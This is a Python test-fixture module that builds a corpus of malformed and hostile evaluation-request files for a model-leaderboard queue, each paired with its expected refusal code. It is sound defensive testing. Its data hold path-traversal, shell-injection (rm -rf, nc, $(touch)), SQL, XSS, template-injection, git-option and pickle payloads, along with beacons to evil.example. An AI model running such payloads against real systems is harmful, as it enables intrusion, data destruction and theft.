"""A hundred and more request files that strangers might send, each with what must become of it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

BASE: dict[str, Any] = {
    "model": "palmares-demo/nobody",
    "base_model": "",
    "revision": "main",
    "private": False,
    "precision": "bfloat16",
    "weight_type": "Original",
    "status": "PENDING",
    "submitted_time": "2025-05-01T10:00:00Z",
    "model_type": "🟢 : pretrained",
    "job_id": "-1",
    "job_start_time": None,
    "use_chat_template": False,
}
"""Asks for a model that no Hub has: a file that gets as far as ``not_found`` was read without harm."""

LEFT_ALONE = "left alone"
"""Neither evaluated nor written to."""


@dataclass(frozen=True, slots=True, kw_only=True)
class NastyRequest:
    """One file, and the code of its refusal."""

    name: str
    path: str
    content: bytes
    expected: str


def corpus() -> list[NastyRequest]:
    """All of them; names and paths are unique."""
    return [
        NastyRequest(
            name=name,
            path=path or f"nasty/{number:03d}_eval_request_False_bfloat16_Original.json",
            content=content,
            expected=expected,
        )
        for number, (name, path, content, expected) in enumerate(_cases())
    ]


Case = tuple[str, str | None, bytes, str]


def _request(**changes: Any) -> bytes:
    return json.dumps(BASE | changes).encode()


def _cases() -> Iterator[Case]:
    yield from _no_json()
    yield from _names()
    yield from _revisions()
    yield from _wrong_types()
    yield from _texts()
    yield from _odd_but_readable()
    yield from _paths()


def _no_json() -> Iterator[Case]:
    good = _request().decode()
    broken: dict[str, bytes] = {
        "empty": b"",
        "spaces only": b"  \n\t ",
        "cut in the middle": good[:70].encode(),
        "cut inside an escape": b'{"model": "a\\',
        "a list": b"[1, 2]",
        "a list of requests": f"[{good}]".encode(),
        "null": b"null",
        "a number": b"42",
        "a text": b'"org/model"',
        "single quotes": good.replace('"', "'").encode(),
        "a trailing comma": good[:-1].encode() + b",}",
        "a comment": b"// hello\n" + good.encode(),
        "two objects": (good + good).encode(),
        "YAML": b"model: org/model\nstatus: PENDING\n",
        "HTML of a proxy": b"<!DOCTYPE html><html><body>502 Bad Gateway</body></html>",
        "a git merge conflict": b"<<<<<<< HEAD\n" + good.encode() + b"\n=======\n",
        "an LFS pointer": b"version https://git-lfs.github.com/spec/v1\noid sha256:"
        + b"0" * 64
        + b"\nsize 3\n",
        "UTF-16": good.encode("utf-16"),
        "UTF-16 without a mark": good.encode("utf-16-le"),
        "UTF-32": good.encode("utf-32"),
        "Latin-1": good.replace("nobody", "nobodé").encode("latin-1"),
        "bytes that are no text": bytes(range(128, 256)),
        "NULs": b"\0" * 1000,
        "a NUL after the object": good.encode() + b"\0",
        "gzip": b"\x1f\x8b\x08\x00" + bytes(50),
        "a Python pickle": b"\x80\x04\x95cos\nsystem\n(S'true'\ntR.",
        "lists in lists": b"[" * 200_000,
        "objects in objects": b'{"a":' * 100_000,
        "a field nested too deep": good[:-1].encode() + b', "x": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        "a number of 10,000 digits": good[:-1].encode() + b', "x": ' + b"9" * 10_000 + b"}",
        "larger than a mebibyte": _request(note="x" * (1 << 20)),
        "a raw line break in a text": good.replace("nobody", "no\nbody").encode(),
        "a raw NUL in a text": good.replace("nobody", "no\0body").encode(),
        "overlong UTF-8": good.encode().replace(b"nobody", b"\xc0\xaf\xc0\xae"),
    }
    for name, content in broken.items():
        yield name, None, content, "invalid_json"


def _names() -> Iterator[Case]:
    names: dict[str, str] = {
        "a path upwards": "../../etc/passwd",
        "a path upwards with an organisation": "org/../../etc",
        "an absolute path": "/etc/passwd",
        "a Windows path": "C:\\Windows\\System32",
        "a file address": "file:///etc/passwd",
        "a web address": "https://evil.example/org/model",
        "an address with a password": "https://user:secret@hub.example/o/m",
        "three parts": "datasets/org/model",
        "an empty organisation": "/model",
        "an empty name": "org/",
        "a dot": ".",
        "two dots": "..",
        "a hidden folder": "org/.git",
        "a name that ends in .git": "org/model.git",
        "two dashes": "org/mo--del",
        "a dash first (an option)": "-rf/model",
        "an option": "--help",
        "a space": "org/my model",
        "a tab": "org/my\tmodel",
        "a line break": "org/model\nINFO - everything is fine",
        "a carriage return": "org/model\r\nX-Injected: 1",
        "an ANSI escape": "org/\x1b[31mmodel\x1b[0m",
        "a NUL": "org/mo\0del",
        "a bell": "org/mo\adel",
        "a shell command": "org/$(touch /tmp/pwned)",
        "backticks": "org/`id`",
        "a semicolon": "org/model; rm -rf /",
        "a pipe": "org/model|nc evil 1",
        "a query": "org/model' OR '1'='1",
        "a query's end": "org/model'; DROP TABLE evaluations; --",
        "a template": "org/{{ conn.palmares_db.password }}",
        "a Python format": "org/{0.__class__}",
        "a percent format": "org/%s%s%n",
        "HTML": "<script>alert(1)</script>/model",
        "an HTML attribute": 'org/"onmouseover=alert(1) x="',
        "Markdown": "org/[click](javascript:alert(1))",
        "a table cell's end": "org/model | 100 | 100",
        "percent encoding": "org/%2e%2e%2fetc",
        "a backslash": "org\\model",
        "a Cyrillic o": "org/m\u043edel",
        "a full-width slash": "org\uff0fmodel",
        "a right-to-left mark": "org/\u202eledom",
        "a zero-width space": "org/mo\u200bdel",
        "an emoji": "org/🚀",
        "a lone surrogate": "org/\ud800",
        "an accent": "org/modèle",
        "97 characters": "org/" + "m" * 97,
        "nearly a mebibyte": "m" * 900_000,
        "a thousand slashes": "/" * 1000,
    }
    for name, model in names.items():
        yield f"model: {name}", None, _request(model=model), "invalid_name"
    without = json.dumps({key: value for key, value in BASE.items() if key != "model"}).encode()
    yield "model: absent", None, without, "invalid_request"
    values: dict[str, Any] = {"null": None, "a number": 7, "a list": ["o/m"], "blank": "  "}
    for name, value in values.items():
        yield f"model: {name}", None, _request(model=value), "invalid_request"


def _revisions() -> Iterator[Case]:
    revisions = {
        "a path upwards": "../../main",
        "an option": "--upload-pack=evil",
        "a shell command": "main;id",
        "a line break": "main\nmain",
        "a space": "my branch",
        "a NUL": "ma\0in",
        "a template": "{{ var.value.secret }}",
        "a thousand characters": "r" * 1000,
        "an absolute path": "/main",
        "a query": "main'--",
    }
    for name, revision in revisions.items():
        yield f"revision: {name}", None, _request(revision=revision), "invalid_revision"


def _wrong_types() -> Iterator[Case]:
    """Wrong where it decides: refused; wrong elsewhere: read as absent."""
    decisive: list[tuple[str, Any, str]] = [
        ("precision", "9bit", "unsupported_precision"),
        ("precision", "bfloat16; rm -rf /", "unsupported_precision"),
        ("precision", "../bfloat16", "unsupported_precision"),
        ("weight_type", "Magic", "unsupported_weight_type"),
        ("weight_type", "<b>Original</b>", "unsupported_weight_type"),
        ("weight_type", "Adapter", "unsupported_weight_type"),
    ]
    for field, value, expected in decisive:
        yield f"{field} {value!r}", None, _request(**{field: value}), expected
    harmless: list[tuple[str, Any]] = [
        ("base_model", 5),
        ("base_model", {"name": "x"}),
        ("revision", None),
        ("revision", 17),
        ("revision", ["main"]),
        ("private", "yes"),
        ("precision", None),
        ("params", "seven"),
        ("params", -3),
        ("params", [7]),
        ("architectures", {"a": 1}),
        ("submitted_time", "yesterday"),
        ("submitted_time", 1_700_000_000),
        ("submitted_time", "9999-99-99T99:99:99Z"),
        ("submitted_time", "0001-01-01T00:00:00+14:00"),
        ("model_type", ["chat"]),
        ("job_id", {"$ne": 1}),
        ("use_chat_template", "perhaps"),
        ("likes", "many"),
        ("likes", -5),
        ("likes", 10**40),
        ("sender", {"name": "x"}),
        ("license", 3),
        ("tags", "not a list"),
    ]
    for field, value in harmless:
        yield f"{field} {str(value)[:30]!r}", None, _request(**{field: value}), "not_found"


def _texts() -> Iterator[Case]:
    """Free text that would do harm wherever it is shown unescaped."""
    for name, text in {
        "HTML": "<img src=x onerror=alert(1)>",
        "Markdown": "![x](https://evil.example/?c=1) | cell | [a](javascript:b)",
        "a template": "{{ ti.xcom_pull() }} {% for x in range(10**9) %}{% endfor %}",
        "control characters": "a\x00b\x1b[2Jc\r\nd",
        "right-to-left": "\u202eabc\u202c",
        "a secret's form": "hf_" + "a" * 34,
        "20,000 characters": "é" * 20_000,
        "a lone surrogate": "\udfff",
        "a formula for spreadsheets": '=HYPERLINK("https://evil.example")',
    }.items():
        content = _request(
            sender=text, model_type=text, license=text, base_model=text, note=text, tags=[text]
        )
        yield f"free text: {name}", None, content, "not_found"
    yield (
        "keys that do harm",
        None,
        _request(**{"<script>": 1, "__proto__": {}, "a\nb": 2, "": 3}),
        "not_found",
    )


def _odd_but_readable() -> Iterator[Case]:
    good = _request()
    odd: dict[str, bytes] = {
        "a byte-order mark": b"\xef\xbb\xbf" + good,
        "Windows line ends": json.dumps(BASE, indent=4).replace("\n", "\r\n").encode(),
        "keys that are written twice": good[:-1] + b', "revision": "main", "revision": "main"}',
        "a status that is written twice": good[:-1] + b', "status": "FINISHED"}',
        "NaN": _request(params=float("nan")),
        "Infinity": _request(params=float("inf"), likes=float("inf")),
        "1e999": good[:-1] + b', "likes": 1e999}',
        "a thousand members": _request(**{f"field_{number}": number for number in range(1000)}),
        "nested thirty deep": _request(x=json.loads("[" * 30 + "]" * 30)),
        "no status": json.dumps({k: v for k, v in BASE.items() if k != "status"}).encode(),
        "spaces around everything": b" \n" + good.replace(b'": ', b'"  :\n\n ') + b"\n\n ",
    }
    for name, content in odd.items():
        expected = LEFT_ALONE if name == "a status that is written twice" else "not_found"
        yield name, None, content, expected
    for status in ("WHATEVER", "running; rm -rf /", "<b>PENDING</b>", "FINISHED", "CANCELLED", "PENDING\n"):
        expected = "not_found" if status.strip() == "PENDING" else LEFT_ALONE
        yield f"status {status!r}", None, _request(status=status), expected
    yield "an old decision about a bad name", None, _request(model="../x", status="FAILED"), LEFT_ALONE


def _paths() -> Iterator[Case]:
    mark = "_eval_request_False_bfloat16_Original.json"
    for name, path in {
        "HTML in the path": f"<img src=x onerror=alert(1)>/m{mark}",
        "Markdown in the path": f"org/[x](javascript:y)|z{mark}",
        "a template in the path": f"org/{{{{ 7*7 }}}}{mark}",
        "a shell command in the path": f"org/$(id);`id`{mark}",
        "quotes in the path": f"org/a'b\"c{mark}",
        "percent in the path": f"org/%2e%2e%s{mark}",
        "a right-to-left mark in the path": f"org/\u202eledom{mark}",
        "spaces in the path": f"org/a b  c{mark}",
        "a path of twelve folders": "/".join("abcdefghijkl") + f"/m{mark}",
        "a path that names another model": f"palmares-demo/petit2{mark}",
        "a long name in the path": "org/" + "m" * 200 + mark,
    }.items():
        yield name, path, _request(), LEFT_ALONE if "\u202e" in path else "not_found"
    yield "JSON that is no request", "org/statistics.json", b'{"model": "../x"}', LEFT_ALONE
